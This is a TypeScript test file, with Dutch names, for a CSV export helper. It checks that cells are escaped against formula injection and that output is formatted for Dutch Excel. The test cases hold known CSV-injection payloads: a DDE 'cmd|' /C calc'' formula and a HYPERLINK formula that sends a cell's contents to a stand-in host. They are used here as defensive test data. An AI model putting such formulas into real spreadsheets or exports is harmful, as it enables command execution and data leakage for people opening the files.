import { CSV_VOOR_MENSEN, csvCel, csvCode, csvRegel } from './csv';

/** Parses one CSV line (RFC 4180) back into its cells, to prove a written line reads as the cells it was made of. */
function leesRegel(regel: string, scheidingsteken = ','): string[] {
  const cellen: string[] = [];
  let cel = '';
  let inQuotes = false;
  for (let i = 0; i < regel.length; i++) {
    const c = regel[i];
    if (inQuotes) {
      if (c === '"' && regel[i + 1] === '"') { cel += '"'; i++; } else if (c === '"') inQuotes = false; else cel += c;
    } else if (c === '"') inQuotes = true;
    else if (c === scheidingsteken) { cellen.push(cel); cel = ''; } else if (c === '\n') break;
    else cel += c;
  }
  cellen.push(cel);
  return cellen;
}

describe('csvCel: OWASP CSV injection', () => {
  it.each([
    ['=cmd|\' /C calc\'!A0', `"'=cmd|' /C calc'!A0"`],
    ['=1+1', `"'=1+1"`],
    ['+31 6 1234', `"'+31 6 1234"`],
    ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['=HYPERLINK("http://x.test?a="&A1,"klik")', `"'=HYPERLINK(""http://x.test?a=""&A1,""klik"")"`],
  ])('neutralises %j with a leading quote, in double quotes', (waarde, cel) => {
    expect(csvCel(waarde)).toBe(cel);
  });

  it('leaves plain text and numbers as they are', () => {
    expect(csvCel('Kok')).toBe('Kok');
    expect(csvCel('123456782')).toBe('123456782');
    expect(csvCel('a=b')).toBe('a=b');
    expect(csvCel(17)).toBe('17');
    expect(csvCel(-3)).toBe('-3');
    expect(csvCel(null)).toBe('');
    expect(csvCel(undefined)).toBe('');
    expect(csvCel('')).toBe('');
  });

  it('quotes separators, quotes and line breaks so that a value cannot start a new cell or line', () => {
    expect(csvCel('a,=1+1')).toBe('"a,=1+1"');
    expect(csvCel('zei "nee"')).toBe('"zei ""nee"""');
    expect(csvCel('regel\n=1+1')).toBe('"regel\n=1+1"');
    expect(csvCel('a;b')).toBe('"a;b"');
  });

  it('refuses a number that is not finite rather than write NaN into a file', () => {
    expect(() => csvCel(Number.NaN)).toThrow(/eindig/);
  });

  it('csvRegel: a line reads back as its cells, the dangerous ones with their quote', () => {
    const regel = csvRegel([1, '=cmd|\' /C calc\'!A0', null, 'a,"b"', '-1']);
    expect(regel.endsWith('\n')).toBe(true);
    expect(leesRegel(regel)).toEqual(['1', "'=cmd|' /C calc'!A0", '', 'a,"b"', "'-1"]);
  });
});

describe('csvCel and csvRegel for Dutch Excel (CSV_VOOR_MENSEN)', () => {
  it('separates with ; and writes numbers with a decimal comma, booleans as ja/nee', () => {
    const regel = csvRegel([1.5, -0.25, 17, true, false, 'Kok'], CSV_VOOR_MENSEN);
    expect(regel).toBe('1,5;-0,25;17;ja;nee;Kok\n');
    expect(leesRegel(regel, ';')).toEqual(['1,5', '-0,25', '17', 'ja', 'nee', 'Kok']);
  });

  it('keeps a code that starts with a digit as text with its leading zeros: a tab inside quotes, never a formula', () => {
    expect(csvCel(csvCode('012345672'), CSV_VOOR_MENSEN)).toBe('"\t012345672"');
    expect(csvCel(csvCode('25LX'), CSV_VOOR_MENSEN)).toBe('"\t25LX"');
    expect(csvCel(csvCode('ABC'), CSV_VOOR_MENSEN)).toBe('ABC');
    expect(csvCel(csvCode(null), CSV_VOOR_MENSEN)).toBe('');
    expect(csvCel(csvCode('=1+1'), CSV_VOOR_MENSEN)).toBe(`"'=1+1"`);
    const regel = csvRegel([csvCode('012345672'), csvCode('0'), 'x'], CSV_VOOR_MENSEN);
    expect(regel).not.toMatch(/=/);
    expect(leesRegel(regel, ';').map((c) => c.trim())).toEqual(['012345672', '0', 'x']);
  });

  it('neutralises formula starts and quotes both separators the same way as RFC 4180 CSV', () => {
    expect(leesRegel(csvRegel(['=cmd|\' /C calc\'!A0', 'a;b', 'a,b', '@x'], CSV_VOOR_MENSEN), ';')).toEqual(["'=cmd|' /C calc'!A0", 'a;b', 'a,b', "'@x"]);
  });

  it('quotes a decimal comma when the separator is a comma', () => {
    expect(csvRegel([1.5, 2], { scheidingsteken: ',', decimaalteken: ',' })).toBe('"1,5",2\n');
  });
});
